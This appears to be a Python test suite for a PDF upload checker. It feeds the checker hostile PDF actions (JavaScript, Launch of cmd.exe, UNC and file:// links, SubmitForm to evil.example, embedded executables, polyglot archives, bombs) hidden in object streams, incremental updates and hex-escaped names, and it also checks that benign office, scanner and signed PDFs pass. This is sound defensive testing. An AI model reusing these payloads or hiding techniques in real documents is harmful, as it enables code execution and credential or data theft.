"""PDFs from outside: what they would do, hidden in every way that a program still understands."""

import io
import time

import pikepdf
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image
from reportlab.lib.styles import getSampleStyleSheet
from reportlab.platypus import Paragraph, SimpleDocTemplate

from odoo.tests import tagged

from ...tools.file_check import MB
from ..common.file_check_case import QUICK, FileCase
from ..common.file_samples import PDF, packed, pdf_of

# Actions that do something, or tell somebody that the file is read; what a click may do as well.
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
HARMFUL = {
    SCRIPT: "pdf_script",
    b"<< /S /Launch /F (cmd.exe) >>": "pdf_launch",
    b"<< /S /GoToR /F (\\\\\\\\10.0.0.1\\\\share\\\\x.pdf) /D [0 /Fit] >>": "pdf_action",
    b"<< /S /GoToE /T << /R /C /N (a) >> >>": "pdf_files",
    b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>": "pdf_action",
    b"<< /S /ImportData /F (\\\\\\\\h\\\\x.fdf) >>": "pdf_action",
    b"<< /S /Named /N /SaveAs >>": "pdf_action",
    b"<< /S /Rendition /OP 0 /R 9 0 R >>": "pdf_media",
    b"<< /S /RichMediaExecute >>": "pdf_media",
    b"<< /S /Movie >>": "pdf_media",
    b"<< /S /Sound >>": "pdf_media",
    b"<< /S /Thread /F (other.pdf) /D 0 >>": "pdf_action",
    b"<< /Type /Action /S /Unheard >>": "pdf_action",
    b"<< /S /URI /URI (file://10.0.0.1/share/x) >>": "pdf_link",
    b"<< /S /URI /URI (\\\\\\\\10.0.0.1\\\\share\\\\x.exe) >>": "pdf_link",
    b"<< /S /URI /URI (javascript:alert\\(1\\)) >>": "pdf_link",
    b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>": "pdf_link",
    b"<< /S /URI /URI (search-ms:query=x) >>": "pdf_link",
    b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /GoTo /D [3 0 R /Fit] /Next [%s] >> >>" % SCRIPT: "pdf_script",
}
# A click on these is the reader's own; by themselves they tell who opened the file, or hide something.
BY_CLICK_ALONE = {
    b"<< /S /URI /URI (https://evil.example/?read) >>": "pdf_link",
    b"<< /S /Hide /T (field) >>": "pdf_action",
    b"<< /S /ResetForm >>": "pdf_action",
    b"<< /S /Named /N /Print >>": "pdf_action",
}
HARMLESS = (
    b"<< /S /GoTo /D [3 0 R /Fit] >>",
    b"<< /S /Named /N /NextPage >>",
)
NOTE = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] %s >>]"


def placed_by_itself(action):
    """Yield PDFs in which ``action`` is done without a click."""
    yield pdf_of(catalog=b"/OpenAction %s" % action)
    yield pdf_of(b"10 0 obj %s endobj" % action, catalog=b"/OpenAction 10 0 R")
    yield pdf_of(catalog=b"/AA << /WC %s >>" % action)
    yield pdf_of(page=b"/AA << /O %s >>" % action)
    yield pdf_of(page=NOTE % (b"/AA << /PO %s >>" % action))
    yield pdf_of(catalog=b"/AcroForm << /Fields [<< /FT /Tx /T (a) /AA << /C %s >> >>] >>" % action)
    yield pdf_of(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next %s >>" % action)


def placed_by_click(action):
    """Yield PDFs in which ``action`` is done after a click."""
    yield pdf_of(page=NOTE % (b"/A %s" % action))
    yield pdf_of(b"10 0 obj %s endobj" % action, page=NOTE % b"/A 10 0 R")
    yield pdf_of(page=NOTE % (b"/PA %s" % action))
    yield pdf_of(catalog=b"/Outlines << /First << /Title (a) /A %s >> >>" % action)


def hidden(thing):
    """Yield PDFs that hold the object ``thing`` where not each program sees it, and some do."""
    whole = b"10 0 obj\n%s\nendobj\n" % thing
    yield "unreached", pdf_of(whole)
    yield "comments between its numbers", pdf_of(b"10 %%one\n0 %%%% 0 obj << >>\n obj %s endobj" % thing)
    yield "in a stream of objects", pdf_of(packed_objects={10: b"<< >>", 11: thing})
    for head in (
        b"%stream endstream\n /Filter /FlateDecode",
        b"/X (stream endstream) /Filter /FlateDecode",
        b"/X << /Y (\\) endstream stream) >> /Filter [/Fl]",
        b"/Filter /FlateDecode /DecodeParms << /Predictor 1 >>",
        b"/Fil#74er /FlateDecode",
    ):
        yield head.decode(), pdf_of(packed_objects={11: thing}, head=head)
    yield "replaced by an update", updated(pdf_of(whole), b"10 0 obj << >> endobj\n")
    yield "before the same number", pdf_of(whole + b"10 0 obj << >> endobj\n")
    yield "after the same number", pdf_of(b"10 0 obj << >> endobj\n" + whole)
    yield "behind the end", pdf_of() + whole


def updated(content, objects):
    """Return the PDF ``content`` with an update of its ``objects``, as programs append them."""
    former = content.rindex(b"startxref") + 10
    start = len(content) + len(objects)
    return (
        content
        + objects
        + (
            b"xref\n10 1\n%010d 00000 n \ntrailer << /Size 11 /Root 1 0 R /Prev %s >>\n"
            b"startxref\n%d\n%%%%EOF\n" % (len(content), content[former:].split()[0], start)
        )
    )


def made(change):
    """Return a PDF that pikepdf writes, after ``change`` of it, with its objects in streams."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    change(pdf)
    stream = io.BytesIO()
    pdf.save(stream, object_stream_mode=pikepdf.ObjectStreamMode.generate, static_id=True)
    return stream.getvalue()


@tagged("post_install", "-at_install")
class TestActions(FileCase):
    def test_by_themselves(self):
        """What is done when a file, page, note or field is opened: nothing but going to a page of it."""
        for action, code in (HARMFUL | BY_CLICK_ALONE).items():
            for number, content in enumerate(placed_by_itself(action)):
                with self.subTest(action=action, place=number):
                    self.assertIn(code, self.codes("a.pdf", content))

    def test_by_a_click(self):
        """What is done by a click: going to a page, of the file or of the web, and nothing else."""
        for action, code in HARMFUL.items():
            for number, content in enumerate(placed_by_click(action)):
                with self.subTest(action=action, place=number):
                    self.assertIn(code, self.codes("a.pdf", content))
        for action in BY_CLICK_ALONE:
            for content in placed_by_click(action):
                with self.subTest(action=action):
                    self.assert_codes("a.pdf", content)

    def test_harmless(self):
        """Going to a page of the same file is taken everywhere."""
        for action in HARMLESS:
            for content in (*placed_by_itself(action), *placed_by_click(action)):
                with self.subTest(action=action):
                    self.assert_codes("a.pdf", content)
        self.assert_codes("a.pdf", pdf_of(catalog=b"/OpenAction [3 0 R /Fit]"))

    def test_hidden(self):
        """Whatever does something is found where a program might: updated, packed, unreached, twice."""
        for action, code in HARMFUL.items():
            for how, content in hidden(action):
                with self.subTest(action=action, how=how):
                    self.assertIn(code, self.codes("a.pdf", content))
        for _how, content in hidden(b"<< /Type /Font >>"):
            self.assert_codes("a.pdf", content)

    def test_through_another_table(self):
        """A second catalog, that a program finds which makes the table of the file anew."""
        body = (
            b"10 0 obj << /S /URI /URI (https://evil.example/) >> endobj\n"
            b"1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 10 0 R >> endobj"
        )
        self.assert_codes("a.pdf", pdf_of(body), "pdf_link")

    def test_escaped_names(self):
        """A name is the same with its letters as numbers, wherever it is."""
        for content in (
            pdf_of(catalog=b"/Open#41ction << /S /J#61vaScript /J#53 (x) >>"),
            pdf_of(packed_objects={11: b"<< /#53 /#4aavaScript >>"}),
            pdf_of(page=NOTE % b"/#41 << /S /Submit#46orm >>"),
        ):
            self.assertTrue(self.codes("a.pdf", content))

    @settings(QUICK, max_examples=150)
    @given(st.data())
    def test_any_spelling(self, data):
        """However a script is spelled, with comments, spaces, escapes and keys before it, it is found."""
        space = st.sampled_from([b" ", b"\n", b"%x >> endobj\n", b"\r\n", b"\0", b"\t%stream\r"])

        def spelled(name):
            return b"/" + b"".join(
                b"#%02x" % sign if data.draw(st.booleans()) else bytes([sign]) for sign in name
            )

        before = data.draw(
            st.sampled_from([b"", b"/K (\\) /S /GoTo)", b"/K <2f53>", b"/K [(endstream) << /S /P >>]"])
        )
        action = b"<<" + before + data.draw(space) + spelled(b"S") + data.draw(space) + spelled(b"JavaScript")
        action += data.draw(space) + b">>"
        how = data.draw(st.sampled_from(["open", "packed", "loose"]))
        content = {
            "open": lambda: pdf_of(catalog=b"/OpenAction " + action),
            "packed": lambda: pdf_of(packed_objects={11: action}),
            "loose": lambda: pdf_of(b"77 0 obj" + data.draw(space) + action + b"endobj"),
        }[how]()
        self.assertIn("pdf_script", self.codes("a.pdf", content))


@tagged("post_install", "-at_install")
class TestOtherContent(FileCase):
    def test_names_of_scripts(self):
        """Scripts that the catalog names run when the file is opened."""
        tree = b"/Names << /JavaScript << /Names [(a) 10 0 R] >> >>"
        self.assert_codes("a.pdf", pdf_of(catalog=tree), "pdf_script")
        self.assertIn("pdf_action", self.codes("a.pdf", pdf_of(catalog=b"/Names << /Unheard << >> >>")))
        self.assert_codes("a.pdf", pdf_of(catalog=b"/Names << /Dests << /Names [] >> >>"))
        self.assertIn("pdf_script", self.codes("a.pdf", pdf_of(b"10 0 obj << /JS 11 0 R >> endobj")))

    def test_forms(self):
        """A form of XFA runs scripts of its own, packed or not; an ordinary form is taken."""
        data = b"10 0 obj << /Filter /FlateDecode /Length 3 >>\nstream\nabc\nendstream\nendobj\n"
        for value in (b"10 0 R", b"[(xdp:xdp) 10 0 R]", b"(x)"):
            xfa = pdf_of(data, catalog=b"/AcroForm << /Fields [] /XFA %s >>" % value)
            self.assert_codes("a.pdf", xfa, "pdf_form")
            in_stream = pdf_of(data, packed_objects={11: b"<< /Fields [] /XFA %s >>" % value})
            self.assert_codes("a.pdf", in_stream, "pdf_form")
        field = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (Name) /V (Ivan) /Rect [0 0 9 9] >>"
        self.assert_codes("a.pdf", pdf_of(catalog=b"/AcroForm << /Fields [%s] >>" % field))

    def test_files_in_the_file(self):
        """Files are sent by themselves, whatever they are called in the PDF."""
        exe = b"10 0 obj << /Length 2 >>\nstream\nMZ\nendstream\nendobj\n"
        specification = b"<< /F (a.exe) /EF << /F 10 0 R >> >>"
        for content in (
            pdf_of(
                exe, page=b"/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS %s >>]" % specification
            ),
            pdf_of(exe, page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /FS %s >>]" % specification),
            pdf_of(exe, catalog=b"/AF [%s]" % specification),
            pdf_of(exe, catalog=b"/Names << /EmbeddedFiles << /Names [(a) %s] >> >>" % specification),
            pdf_of(exe, packed_objects={11: specification}),
            pdf_of(catalog=b"/Collection << /View /T >>"),
            pdf_of(b"10 0 obj << /Length 0 /F (\\\\\\\\h\\\\s\\\\x) >>\nstream\n\nendstream endobj"),
            pdf_of(
                b"10 0 obj << /Subtype /Form /Ref << /F (x.pdf) >> /Length 0 >>\nstream\n\nendstream endobj"
            ),
        ):
            self.assert_codes("a.pdf", content, "pdf_files")
        attached = made(lambda pdf: pdf.attachments.__setitem__("a.txt", b"text"))
        self.assert_codes("a.pdf", attached, "pdf_files")

    def test_media(self):
        """Video, sound, 3D: what plays them is what attackers look for first. Unheard notes are not taken."""
        for subtype in (b"RichMedia", b"3D", b"Movie", b"Sound", b"Screen"):
            note = b"/Annots [<< /Type /Annot /Subtype /%s /Rect [0 0 9 9] >>]" % subtype
            self.assert_codes("a.pdf", pdf_of(page=note), "pdf_media")
            self.assert_codes("a.pdf", pdf_of(page=note.replace(b"/Type /Annot ", b"")), "pdf_media")
        self.assert_codes("a.pdf", pdf_of(page=b"/Annots [<< /Type /Annot /Subtype /New >>]"), "pdf_action")
        for subtype in (b"Text", b"Highlight", b"Stamp", b"FreeText", b"Ink", b"Popup", b"Widget"):
            note = b"/Annots [<< /Type /Annot /Subtype /%s /Rect [0 0 9 9] >>]" % subtype
            self.assert_codes("a.pdf", pdf_of(page=note))

    def test_what_cannot_be_checked(self):
        """A PDF behind a password, in filters that no program uses, or that is none."""
        self.assert_codes("a.pdf", PDF.replace(b"/Size 4", b"/Size 4 /Encrypt 9 0 R"), "pdf_locked")
        pdf, stream = pikepdf.new(), io.BytesIO()
        pdf.add_blank_page()
        pdf.save(stream, encryption=pikepdf.Encryption(owner="o", user=""))
        self.assert_codes("a.pdf", stream.getvalue(), "pdf_locked")
        odd = b"10 0 obj << /Filter %s /Length 0 >>\nstream\n\nendstream endobj"
        for filters in (b"/Unheard", b"[/FlateDecode /Unheard]", b"[" + b"/Fl " * 9 + b"]"):
            self.assert_codes("a.pdf", pdf_of(odd % filters), "pdf_unreadable")
        self.assert_codes("a.pdf", pdf_of(odd % b"/Crypt"), "pdf_locked")
        for content in (b"%PDF-1.7\n", b"%PDF-1.7\n1 0 obj << >> endobj", b"%PDF-" + bytes(1000)):
            self.assert_codes("a.pdf", content, "pdf_unreadable")
        broken = pdf_of(packed_objects={11: b"<< >>"}).replace(b"stream\r\nx", b"stream\r\ny")
        self.assert_codes("a.pdf", broken, "pdf_unreadable")

    def test_two_files_in_one(self):
        """What is also an archive, as Java reads it, is not taken; nor what has much behind its end."""
        program = packed({"META-INF/MANIFEST.MF": "Main-Class: X"})
        self.assertIn("twofold", self.codes("a.pdf", PDF + program))
        self.assertIn("twofold", self.codes("a.pdf", PDF + b"x" * 4000))
        picture = io.BytesIO()
        Image.new("RGB", (20, 20)).save(picture, "PNG")
        self.assert_codes("a.png", picture.getvalue() + program, "twofold")
        self.assert_codes("a.pdf", PDF + b"\x1b%-12345X@PJL EOJ\r\n" + b"\0" * 5000)

    def test_bombs(self):
        """What becomes too large, or too deep, is refused in bounded time."""
        begun = time.monotonic()
        large = b"<< /K (" + bytes(70 * MB) + b") >>"
        self.assert_codes("a.pdf", pdf_of(packed_objects={11: large}), "pdf_unreadable")
        self.assertTrue(self.codes("a.pdf", pdf_of(b"10 0 obj " + b"[" * 100_000 + b" endobj")))
        deep = b"<< /AA 1 /K " * 200 + b">>" * 200
        self.assertTrue(self.codes("a.pdf", pdf_of(b"10 0 obj %s endobj" % deep)))
        loop = b"10 0 obj << /S /GoTo /Next 10 0 R >> endobj"
        self.assertTrue(self.codes("a.pdf", pdf_of(loop)))
        self.assertLess(time.monotonic() - begun, 20)

    def test_honest(self):
        """What programs of offices, scanners and signatures write is taken."""
        stream = io.BytesIO()
        text = '/JavaScript is a word. <a href="https://customs.example/a?b=1">page</a>'
        text += ' <a href="mailto:a@b.rs">me</a>'
        style = getSampleStyleSheet()["Normal"]
        SimpleDocTemplate(stream).build([Paragraph(text, style) for _number in range(200)])
        self.assert_codes("report.pdf", stream.getvalue())
        scan = io.BytesIO()
        Image.effect_noise((800, 800), 50).save(scan, "PDF")
        self.assert_codes("scan.pdf", scan.getvalue())
        self.assert_codes("a.pdf", made(lambda pdf: None))
        outline = b"/Outlines << /First << /Title (1) /Dest [3 0 R /Fit] >> >>"
        outline += b"/PageLabels << /Nums [0 << /S /D >>] >>"
        tagged_text = b"10 0 obj << /S /Span /P 9 0 R /A << /O /Layout /Width 9 >> >> endobj"
        self.assert_codes("tagged.pdf", pdf_of(tagged_text, catalog=outline))
        intent = b"/OutputIntents [<< /Type /OutputIntent /S /GTS_PDFA1 >>] /Metadata 10 0 R"
        self.assert_codes("archive.pdf", pdf_of(catalog=intent))

    def test_signed(self):
        """A signature, with its field, its update and its certificates, is no reason to refuse."""
        signature = (
            b"11 0 obj << /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached "
            b"/ByteRange [0 9 20 9] /Contents <3080> "
            b"/Reference [<< /Type /SigRef /TransformMethod /DocMDP /TransformParams "
            b"<< /Type /TransformParams /P 2 /V /1.2 >> >>] >> endobj\n"
        )
        field = (
            b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (S1) /V 11 0 R /F 132 /Rect [0 0 0 0] /P 3 0 R >>"
        )
        catalog = b"/AcroForm << /SigFlags 3 /Fields [%s] >> /Perms << /DocMDP 11 0 R >>" % field
        signed = pdf_of(signature, catalog=catalog)
        self.assert_codes("signed.pdf", signed)
        store = b"10 0 obj << /Type /DSS /Certs [] /VRI << >> >> endobj\n"
        self.assert_codes("signed.pdf", updated(signed, store))

    @settings(QUICK, suppress_health_check=list(HealthCheck))
    @given(
        st.lists(st.tuples(st.integers(0, 100_000), st.binary(min_size=1, max_size=8)), max_size=5),
        st.integers(0, 100_000),
    )
    def test_damaged(self, changes, cut):
        """A PDF with bytes changed or cut off: an answer, and never a traceback."""
        content = bytearray(pdf_of(packed_objects={11: b"<< /S /GoTo >>", 12: b"[1 2 (a)]"}))
        for place, new in changes:
            begin = place % len(content)
            content[begin : begin + len(new)] = new
        self.codes("a.pdf", bytes(content[: cut or None]))
